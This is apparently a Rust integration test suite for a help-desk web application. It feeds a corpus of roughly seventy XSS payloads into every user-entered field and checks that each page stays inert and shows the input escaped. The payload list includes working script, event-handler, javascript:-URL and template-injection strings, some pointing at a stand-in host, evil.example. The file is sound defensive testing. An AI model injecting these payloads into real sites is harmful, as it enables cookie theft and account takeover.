//! Hostile input: a corpus of XSS payloads typed into every text a user can enter, and
//! every page that shows it checked: never a server error, the page inert (see
//! [`super::not_inert`]), the payload never there unescaped — and shown, escaped, where
//! the page is meant to show it (so a payload dropped on the floor does not pass).

use super::{
    PW, add_member, create_ticket, customer, escaped, hostile_problems, lit, normalize,
    post_multipart, professional, sql_i64, sql_text, staff,
};
use crate::harness::{Browser, Page, TestApp};

/// Script tags, event handlers, `javascript:`/`data:` URLs, SVG and MathML, broken and
/// nested markup, attribute break-outs, template syntax of several engines, pre-escaped
/// text, bidirectional overrides. No NUL (that has tests of its own); each at most 100
/// characters, so it fits every field.
pub const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<a href=\"javascript:alert(1)\">click</a>",
    "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(document.cookie)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "<object data=\"javascript:alert(1)\">",
    "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video><source onerror=\"alert(1)\">",
    "<audio src=x onerror=alert(1)>",
    "<xss id=x tabindex=1 onfocusin=alert(1)></xss>",
    "\" autofocus onfocus=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "\" onmouseover=\"alert(1)\" x=\"",
    "<div style=\"background:url(javascript:alert(1))\">",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<base href=\"//evil.example/\">",
    "<form action=\"//evil.example\"><button>go</button></form>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "{{7*7}}",
    "{{ ctx.csrf }}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{%- if true -%}x{%- endif -%}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "https://example.com/\"><script>alert(1)</script>",
    "https://example.com/' onmouseover='alert(1)",
    "http://example.com/?a=<img src=x onerror=alert(1)>",
    "evil\u{202E}txt.exe",
    "\u{202E}<script>alert(1)</script>",
    "\u{200F}\u{202B}<b>rtl</b>\u{202C}\u{2066}x\u{2069}",
    "\\\"-alert(1)-\\\"",
];

/// Everything wrong with the pages fetched for `payload` (empty: all good).
fn check(problems: &mut Vec<String>, what: &str, page: &Page, payload: &str) {
    problems.extend(hostile_problems(what, page, payload));
}

/// `value` is on the page, escaped as the templates escape it.
fn shows(page: &Page, value: &str) -> bool {
    normalize(&page.body).contains(&escaped(value))
}

fn expect_shown(problems: &mut Vec<String>, what: &str, page: &Page, value: &str) {
    if !shows(page, value) {
        problems.push(format!("{what}: {value:?} is not shown (escaped)"));
    }
}

#[track_caller]
fn assert_none(problems: Vec<String>) {
    assert!(
        problems.is_empty(),
        "{} problems:\n{}",
        problems.len(),
        problems.join("\n")
    );
}

#[test]
fn the_corpus_is_large_and_fits_every_field() {
    assert!(PAYLOADS.len() >= 50, "{}", PAYLOADS.len());
    for p in PAYLOADS {
        assert!(p.chars().count() <= 100 && !p.contains('\0'), "{p:?}");
    }
    let unique: std::collections::BTreeSet<_> = PAYLOADS.iter().collect();
    assert_eq!(unique.len(), PAYLOADS.len());
}

#[test]
fn the_checker_catches_what_it_must() {
    // The checker itself: each of these pages must be refused.
    for bad in [
        "<p><script>alert(1)</script></p>",
        "<p><img src=x onerror=alert(1)></p>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\" JaVa&#x09;script:alert(1)\">x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<input value=\"\" autofocus onfocus=\"alert(1)\">",
        "<div style=\"x\">",
        "<svg onload=alert(1)>",
        "<form action=\"//evil.example\">",
        "<meta http-equiv=\"refresh\" content=\"0\">",
    ] {
        assert!(!super::not_inert(bad).is_empty(), "{bad}");
    }
    for good in [
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        "<a href=\"/tickets/1\">x</a>",
        "<a href=\"https://example.com/x\" rel=\"nofollow\">x</a>",
        "<input value=\"&#34; autofocus onfocus=&#34;alert(1)\">",
        "<script src=\"/static/console.js\" defer></script>",
    ] {
        assert_eq!(super::not_inert(good), Vec::<String>::new(), "{good}");
    }
}

/// An app with acme's owner (on Professional), an agent and an admin.
async fn setup() -> (TestApp, Browser, Browser, Browser) {
    let app = TestApp::spawn().await;
    let owner = customer(&app, "acme", "owner@acme.test").await;
    professional(&app, "acme");
    let (agent, _) = staff(&app, "agent", "agent@support.test").await;
    let (admin, _) = staff(&app, "admin", "admin@support.test").await;
    (app, owner, agent, admin)
}

/// Follows the console queue's `rel="next"` links from `first`; returns every page.
async fn queue_pages(agent: &Browser, first: &str) -> Vec<Page> {
    let mut pages = vec![agent.get(first).await];
    while let Some(next) = super::tags(&pages.last().unwrap().body)
        .into_iter()
        .find(|t| t.attrs.iter().any(|(a, v)| a == "rel" && v == "next"))
        .and_then(|t| t.attrs.into_iter().find(|(a, _)| a == "href"))
        .map(|(_, href)| href.replace("&amp;", "&").replace("&#38;", "&"))
    {
        assert!(pages.len() < 20, "the queue does not end");
        pages.push(agent.get(&next).await);
    }
    pages
}

#[actix_web::test]
async fn subjects_bodies_replies_notes_and_searches_stay_inert() {
    let (app, owner, agent, admin) = setup().await;
    let mut problems = Vec::new();
    let mut numbers = Vec::new();
    for payload in PAYLOADS {
        numbers.push(create_ticket(&owner, payload, payload, &[]).await);
    }
    let stored = |n: i64| {
        sql_text(
            &app,
            &format!("SELECT subject FROM tickets WHERE number = {n}"),
        )
        .unwrap()
    };
    // Each ticket on its customer page, its close confirmation and its console page.
    for (payload, &n) in PAYLOADS.iter().zip(&numbers) {
        let subject = stored(n);
        if subject != payload.trim() {
            problems.push(format!("T{n}: stored {subject:?} for {payload:?}"));
        }
        for (who, path) in [
            (&owner, format!("/tickets/{n}")),
            (&owner, format!("/tickets/{n}/close")),
            (&agent, format!("/console/tickets/{n}")),
        ] {
            let page = who.get(&path).await;
            check(&mut problems, &path, &page, payload);
            expect_shown(&mut problems, &path, &page, &subject);
            if !path.ends_with("/close") && !payload.contains("http") {
                expect_shown(&mut problems, &path, &page, payload);
            }
        }
    }
    // The lists: the customer's (one page of 100) and every page of the queue.
    let list = owner.get("/tickets?page_size=100").await;
    let queue = queue_pages(&agent, "/console?view=open").await;
    for (payload, &n) in PAYLOADS.iter().zip(&numbers) {
        check(&mut problems, "/tickets", &list, payload);
        expect_shown(&mut problems, "/tickets", &list, &stored(n));
        if !queue.iter().any(|p| shows(p, &stored(n))) {
            problems.push(format!("the queue does not show T{n}"));
        }
    }
    for (i, page) in queue.iter().enumerate() {
        check(&mut problems, &format!("queue page {i}"), page, "");
    }

    // Every payload as a customer reply, a public support reply and an internal note.
    let (customer_thread, support_thread) = (numbers[0], numbers[1]);
    for payload in PAYLOADS {
        let p = post_multipart(
            &owner,
            &format!("/tickets/{customer_thread}/messages"),
            &[("body", payload)],
            &[],
        )
        .await;
        assert_eq!(p.status, 303, "customer reply {payload:?}: {}", p.status);
        for internal in ["", "1"] {
            let p = post_multipart(
                &agent,
                &format!("/console/tickets/{support_thread}/messages"),
                &[("body", payload), ("internal", internal)],
                &[],
            )
            .await;
            assert_eq!(p.status, 303, "support message {payload:?}: {}", p.status);
        }
    }
    for (who, path, notes) in [
        (&owner, format!("/tickets/{customer_thread}"), false),
        (&agent, format!("/console/tickets/{customer_thread}"), false),
        (&owner, format!("/tickets/{support_thread}"), false),
        (&agent, format!("/console/tickets/{support_thread}"), true),
    ] {
        let page = who.get(&path).await;
        for payload in PAYLOADS {
            check(&mut problems, &path, &page, payload);
            if !payload.contains("http") {
                expect_shown(&mut problems, &path, &page, payload);
            }
        }
        let articles = page.body.matches("<article ").count();
        let expected = 1 + PAYLOADS.len() * if notes { 2 } else { 1 };
        if articles < expected {
            problems.push(format!("{path}: {articles} messages, wanted {expected}"));
        }
    }
    // Notes never reach the customer, however they are written.
    let customer_view = owner.get(&format!("/tickets/{support_thread}")).await;
    assert!(!customer_view.body.contains("data-kind=\"note\""));

    // Filters and paging parameters go back into links: typed as payloads, still inert.
    for payload in PAYLOADS {
        let v = serde_urlencoded::to_string([("v", payload)]).unwrap()[2..].to_string();
        for (who, path) in [
            (
                &owner,
                format!(
                    "/tickets?status={v}&priority={v}&category={v}&sort={v}&page={v}&page_size={v}&created={v}"
                ),
            ),
            (
                &agent,
                format!("/console?view={v}&priority={v}&category={v}&organization={v}&after={v}"),
            ),
            (&owner, format!("/tickets/{}?x={v}", numbers[2])),
        ] {
            let page = who.get(&path).await;
            if page.status != 200 && page.status != 400 {
                problems.push(format!("{path}: {}", page.status));
            }
            check(&mut problems, &path, &page, payload);
        }
    }
    // Searches echo the query back into the form (and the pager links).
    for payload in PAYLOADS {
        let q = serde_urlencoded::to_string([("q", payload)]).unwrap();
        for (who, path) in [
            (&owner, format!("/tickets?{q}")),
            (&agent, format!("/console?view=open&{q}")),
            (
                &agent,
                format!("/console?view=closed&organization=acme&{q}"),
            ),
            (&admin, format!("/admin/organizations?{q}")),
        ] {
            let page = who.get(&path).await;
            if page.status != 200 {
                problems.push(format!("{path}: {}", page.status));
            }
            check(&mut problems, &path, &page, payload);
            expect_shown(&mut problems, &path, &page, payload.trim());
        }
    }
    assert_none(problems);
}

#[actix_web::test]
async fn names_typed_at_signup_stay_inert() {
    let app = TestApp::spawn().await;
    let mut problems = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let b = super::browser(&app);
        let email = format!("signup-{i}@example.test");
        // Refused first (a bad email): the form comes back with what was typed.
        let fields = |email: &str| {
            [
                ("organization", payload.to_string()),
                ("organization_key", format!("xss-{i}")),
                ("name", payload.to_string()),
                ("email", email.to_string()),
                ("password", PW.to_string()),
            ]
        };
        let refused_fields = fields("not an email");
        let refused_fields: Vec<(&str, &str)> = refused_fields
            .iter()
            .map(|(k, v)| (*k, v.as_str()))
            .collect();
        let refused = b.post("/signup", &refused_fields).await;
        if refused.status != 422 {
            problems.push(format!("signup with a bad email: {}", refused.status));
        }
        check(&mut problems, "refused /signup", &refused, payload);
        expect_shown(&mut problems, "refused /signup", &refused, payload);
        // Every field of the form typed as the payload, and the login form's email.
        let all_bad = [
            ("organization", *payload),
            ("organization_key", *payload),
            ("name", *payload),
            ("email", *payload),
            ("password", *payload),
        ];
        let refused = b.post("/signup", &all_bad).await;
        check(
            &mut problems,
            "refused /signup (every field)",
            &refused,
            payload,
        );
        let refused = b
            .post("/login", &[("email", payload), ("password", payload)])
            .await;
        check(&mut problems, "refused /login", &refused, payload);
        expect_shown(&mut problems, "refused /login", &refused, payload.trim());

        let good_fields = fields(&email);
        let good_fields: Vec<(&str, &str)> =
            good_fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let p = b.post("/signup", &good_fields).await;
        if p.status != 303 {
            problems.push(format!("signup {payload:?}: {} {}", p.status, p.body));
            continue;
        }
        for path in ["/tickets", "/organization", "/profile", "/plan"] {
            let page = b.get(path).await;
            check(&mut problems, path, &page, payload);
            if path != "/plan" {
                expect_shown(&mut problems, path, &page, payload);
            }
        }
    }
    assert_eq!(
        sql_i64(
            &app,
            &format!(
                "SELECT count(*) FROM users WHERE name IN ({})",
                PAYLOADS
                    .iter()
                    .map(|p| lit(p))
                    .collect::<Vec<_>>()
                    .join(",")
            )
        ),
        PAYLOADS.len() as i64,
        "every name stored as typed"
    );
    assert_none(problems);
}

#[actix_web::test]
async fn profile_names_and_new_organizations_stay_inert_everywhere_they_show() {
    let (app, owner, agent, admin) = setup().await;
    let n = create_ticket(&owner, "Printer", "It is on fire.", &[]).await;
    let p = agent
        .post(&format!("/console/tickets/{n}/accept"), &[])
        .await;
    assert_eq!(p.status, 303);
    let mut problems = Vec::new();
    // The owner's name: the header, the profile form, the members, the ticket's requester.
    for payload in PAYLOADS {
        let p = owner
            .post(
                "/profile",
                &[("form", "details"), ("name", payload), ("mobile", "")],
            )
            .await;
        if p.status != 303 {
            problems.push(format!("profile name {payload:?}: {}", p.status));
            continue;
        }
        let refused = owner
            .post(
                "/profile",
                &[("form", "details"), ("name", payload), ("mobile", payload)],
            )
            .await;
        check(
            &mut problems,
            "refused /profile (mobile)",
            &refused,
            payload,
        );
        let refused = owner
            .post(
                "/organizations/new",
                &[("organization", payload), ("organization_key", payload)],
            )
            .await;
        check(
            &mut problems,
            "refused /organizations/new (key)",
            &refused,
            payload,
        );
        for (who, path) in [
            (&owner, "/profile".to_string()),
            (&owner, "/organization".to_string()),
            (&owner, format!("/tickets/{n}")),
            (&agent, format!("/console/tickets/{n}")),
            (&admin, "/admin/organizations/acme".to_string()),
        ] {
            let page = who.get(&path).await;
            check(&mut problems, &path, &page, payload);
            if !path.starts_with("/admin") {
                expect_shown(&mut problems, &path, &page, payload);
            }
        }
    }
    // Organization names: each a new organization with a ticket, seen by its owner (the
    // switcher lists them all), in the queue, on the console ticket and on the admin pages.
    let mut tickets = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let key = format!("xss-{i}");
        let p = owner
            .post(
                "/organizations/new",
                &[("organization", payload), ("organization_key", &key)],
            )
            .await;
        if p.status != 303 {
            problems.push(format!("organization {payload:?}: {}", p.status));
            continue;
        }
        tickets.push((
            i,
            create_ticket(&owner, &format!("Ticket of {key}"), "Hello.", &[]).await,
        ));
        for path in ["/tickets", "/organization", "/plan", "/tickets/new"] {
            let page = owner.get(path).await;
            check(&mut problems, path, &page, payload);
            expect_shown(&mut problems, path, &page, payload);
        }
    }
    let switcher = owner.get("/profile").await;
    let queue = queue_pages(&agent, "/console?view=unassigned").await;
    let orgs = admin.get("/admin/organizations").await;
    for (i, t) in tickets {
        let payload = PAYLOADS[i];
        check(&mut problems, "switcher", &switcher, payload);
        expect_shown(&mut problems, "switcher", &switcher, payload);
        check(&mut problems, "/admin/organizations", &orgs, payload);
        if !queue.iter().any(|p| shows(p, payload)) {
            problems.push(format!("the queue does not show organization {payload:?}"));
        }
        for (who, path) in [
            (&agent, format!("/console/tickets/{t}")),
            (&admin, format!("/admin/organizations/xss-{i}")),
        ] {
            let page = who.get(&path).await;
            check(&mut problems, &path, &page, payload);
            expect_shown(&mut problems, &path, &page, payload);
        }
    }
    for (i, page) in queue.iter().enumerate() {
        check(&mut problems, &format!("queue page {i}"), page, "");
    }
    drop(app);
    assert_none(problems);
}

#[actix_web::test]
async fn names_of_added_members_and_staff_stay_inert() {
    let (app, owner, agent, admin) = setup().await;
    let n = create_ticket(&owner, "Printer", "It is on fire.", &[]).await;
    let mut problems = Vec::new();
    for (i, payload) in PAYLOADS.iter().enumerate() {
        // Refused (a short password) and shown again, then added.
        let refused = owner
            .post(
                "/organization/members",
                &[
                    ("email", &format!("member-{i}@example.test")),
                    ("name", payload),
                    ("password", "short"),
                    ("role", "member"),
                ],
            )
            .await;
        check(&mut problems, "refused member", &refused, payload);
        let refused = owner
            .post(
                "/organization/members",
                &[
                    ("email", payload),
                    ("name", payload),
                    ("password", payload),
                    ("role", payload),
                ],
            )
            .await;
        check(
            &mut problems,
            "refused member (every field)",
            &refused,
            payload,
        );
        let p = add_member(
            &owner,
            &format!("member-{i}@example.test"),
            payload,
            "member",
        )
        .await;
        if p.status != 303 {
            problems.push(format!("member {payload:?}: {}", p.status));
        }
        let refused = admin
            .post(
                "/admin/users",
                &[
                    ("name", payload),
                    ("email", &format!("agent-{i}@support.test")),
                    ("password", "short"),
                    ("role", "agent"),
                ],
            )
            .await;
        check(&mut problems, "refused staff", &refused, payload);
        let refused = admin
            .post(
                "/admin/users",
                &[
                    ("name", payload),
                    ("email", payload),
                    ("password", payload),
                    ("role", payload),
                ],
            )
            .await;
        check(
            &mut problems,
            "refused staff (every field)",
            &refused,
            payload,
        );
        let p = admin
            .post(
                "/admin/users",
                &[
                    ("name", payload),
                    ("email", &format!("agent-{i}@support.test")),
                    ("password", PW),
                    ("role", "agent"),
                ],
            )
            .await;
        if p.status != 303 {
            problems.push(format!("staff {payload:?}: {}", p.status));
        }
    }
    let members = owner.get("/organization").await;
    let users = admin.get("/admin/users").await;
    // The console ticket lists every agent in its assignment menu.
    let ticket = agent.get(&format!("/console/tickets/{n}")).await;
    for (i, payload) in PAYLOADS.iter().enumerate() {
        for (what, page) in [
            ("/organization", &members),
            ("/admin/users", &users),
            ("console assignment menu", &ticket),
        ] {
            check(&mut problems, what, page, payload);
            expect_shown(&mut problems, what, page, payload);
        }
        let id = sql_i64(
            &app,
            &format!("SELECT id FROM users WHERE email = 'agent-{i}@support.test'"),
        );
        let member = sql_i64(
            &app,
            &format!("SELECT id FROM users WHERE email = 'member-{i}@example.test'"),
        );
        for (who, path) in [
            (&admin, format!("/admin/users/{id}/deactivate")),
            (&owner, format!("/organization/members/{member}/remove")),
        ] {
            let page = who.get(&path).await;
            check(&mut problems, &path, &page, payload);
            expect_shown(&mut problems, &path, &page, payload);
        }
        // Assigned, the agent's name is on both sides of the ticket.
        if i % 10 == 0 {
            let p = agent
                .post(
                    &format!("/console/tickets/{n}/assign"),
                    &[("agent", &id.to_string())],
                )
                .await;
            assert_eq!(p.status, 303, "{}", p.body);
            for (who, path) in [
                (&owner, format!("/tickets/{n}")),
                (&agent, format!("/console/tickets/{n}")),
                (&agent, "/console?view=open".to_string()),
            ] {
                let page = who.get(&path).await;
                check(&mut problems, &path, &page, payload);
                expect_shown(&mut problems, &path, &page, payload);
            }
        }
    }
    assert_none(problems);
}

#[actix_web::test]
async fn plan_and_calendar_names_stay_inert() {
    let (app, owner, agent, admin) = setup().await;
    let mut problems = Vec::new();
    let base = super::world::plan_form("x");
    for (i, payload) in PAYLOADS.iter().enumerate() {
        let key = format!("xss-{i}");
        let fields: Vec<(&str, &str)> = base
            .iter()
            .map(|(k, v)| match k.as_str() {
                "key" => ("key", key.as_str()),
                "name" | "description" => (k.as_str(), *payload),
                _ => (k.as_str(), v.as_str()),
            })
            .collect();
        let every: Vec<(&str, &str)> = base.iter().map(|(k, _)| (k.as_str(), *payload)).collect();
        let refused = admin.post("/admin/plans/new", &every).await;
        check(
            &mut problems,
            "refused plan (every field)",
            &refused,
            payload,
        );
        let refused = admin
            .post(
                "/admin/calendars",
                &[
                    ("action", "create"),
                    ("key", payload),
                    ("name", payload),
                    ("time_zone", payload),
                ],
            )
            .await;
        check(
            &mut problems,
            "refused calendar (every field)",
            &refused,
            payload,
        );
        let p = admin.post("/admin/plans/new", &fields).await;
        if p.status != 303 {
            problems.push(format!("plan {payload:?}: {} {:?}", p.status, p.location));
            continue;
        }
        // The organization moves to the plan and opens a ticket under it.
        let p = admin
            .post("/admin/organizations/acme/plan", &[("plan", key.as_str())])
            .await;
        assert_eq!(p.status, 303, "{}", p.body);
        let n = create_ticket(&owner, &format!("Under {key}"), "Hello.", &[]).await;
        for (who, path) in [
            (&admin, format!("/admin/plans/{key}")),
            (&admin, "/admin/organizations/acme".to_string()),
            (&owner, "/plan".to_string()),
            (&owner, "/tickets/new".to_string()),
            (&owner, format!("/tickets/{n}")),
            (&agent, format!("/console/tickets/{n}")),
        ] {
            let page = who.get(&path).await;
            check(&mut problems, &path, &page, payload);
            expect_shown(&mut problems, &path, &page, payload);
        }
        // Calendars and holidays are named by admins too.
        let p = admin
            .post(
                "/admin/calendars",
                &[
                    ("action", "create"),
                    ("key", &format!("cal-{i}")),
                    ("name", payload),
                    ("time_zone", "Asia/Tehran"),
                ],
            )
            .await;
        assert_eq!(p.status, 303, "calendar {payload:?}: {}", p.body);
        let day = format!("2031-01-{:02}", i % 28 + 1);
        let month = format!("2031-{:02}-01", i / 28 + 1);
        let p = admin
            .post(
                "/admin/calendars",
                &[
                    ("action", "add_holiday"),
                    (
                        "calendar",
                        &sql_i64(
                            &app,
                            &format!("SELECT id FROM calendars WHERE key = 'cal-{i}'"),
                        )
                        .to_string(),
                    ),
                    ("day", if i % 2 == 0 { &day } else { &month }),
                    ("holiday_name", payload),
                ],
            )
            .await;
        assert_eq!(p.status, 303, "holiday {payload:?}: {}", p.body);
    }
    let plans = admin.get("/admin/plans").await;
    let calendars = admin.get("/admin/calendars").await;
    let plan_form = admin.get("/admin/plans/new").await;
    let cards = owner.get("/plan").await;
    for payload in PAYLOADS {
        for (what, page) in [
            ("/admin/plans", &plans),
            ("/admin/calendars", &calendars),
            ("/admin/plans/new", &plan_form),
            ("/plan", &cards),
        ] {
            check(&mut problems, what, page, payload);
            expect_shown(&mut problems, what, page, payload);
        }
    }
    assert_none(problems);
}

#[actix_web::test]
async fn attachment_names_stay_inert_and_cleaned() {
    let (app, owner, agent, _) = setup().await;
    let n = create_ticket(&owner, "Files", "Here they come.", &[]).await;
    let mut problems = Vec::new();
    for chunk in PAYLOADS.chunks(5) {
        let files: Vec<(String, Vec<u8>)> = chunk
            .iter()
            .map(|p| (format!("{p}.txt"), b"log line\n".to_vec()))
            .collect();
        let files: Vec<(&str, &[u8])> = files
            .iter()
            .map(|(n, b)| (n.as_str(), b.as_slice()))
            .collect();
        let p = post_multipart(
            &owner,
            &format!("/tickets/{n}/messages"),
            &[("body", "More files.")],
            &files,
        )
        .await;
        if p.status != 303 {
            problems.push(format!("files {chunk:?}: {}", p.status));
        }
    }
    let names: Vec<(i64, String)> = {
        use diesel::RunQueryDsl;
        #[derive(diesel::QueryableByName)]
        struct Row {
            #[diesel(sql_type = diesel::sql_types::BigInt)]
            id: i64,
            #[diesel(sql_type = diesel::sql_types::Text)]
            filename: String,
        }
        diesel::sql_query(format!(
            "SELECT id, filename FROM attachments WHERE ticket_number = {n} ORDER BY id"
        ))
        .load::<Row>(&mut app.conn())
        .unwrap()
        .into_iter()
        .map(|r| (r.id, r.filename))
        .collect()
    };
    assert_eq!(names.len(), PAYLOADS.len());
    let customer_page = owner.get(&format!("/tickets/{n}")).await;
    let console_page = agent.get(&format!("/console/tickets/{n}")).await;
    for (payload, (id, stored)) in PAYLOADS.iter().zip(&names) {
        if stored.contains(['/', '\\', '"', ';'])
            || stored.chars().any(|c| {
                c.is_control()
                    || ('\u{202a}'..='\u{202e}').contains(&c)
                    || ('\u{2066}'..='\u{2069}').contains(&c)
            })
            || stored.starts_with('.')
            || stored.is_empty()
        {
            problems.push(format!("{payload:?} stored as {stored:?}"));
        }
        for (what, page) in [
            ("customer page", &customer_page),
            ("console page", &console_page),
        ] {
            check(&mut problems, what, page, payload);
            expect_shown(&mut problems, what, page, stored);
        }
        let r = owner
            .client
            .get(owner.url(&format!("/attachments/{id}")))
            .send()
            .await
            .unwrap();
        let disposition = r
            .headers()
            .get("content-disposition")
            .map(|v| v.to_str().unwrap_or("<not ASCII>").to_string())
            .unwrap_or_default();
        if r.status() != 200 || !disposition.starts_with("attachment;") {
            problems.push(format!(
                "download {stored:?}: {} {disposition:?}",
                r.status()
            ));
        }
        if !super::disposition_ok(&disposition) {
            problems.push(format!("Content-Disposition {disposition:?}"));
        }
    }
    assert_none(problems);
}
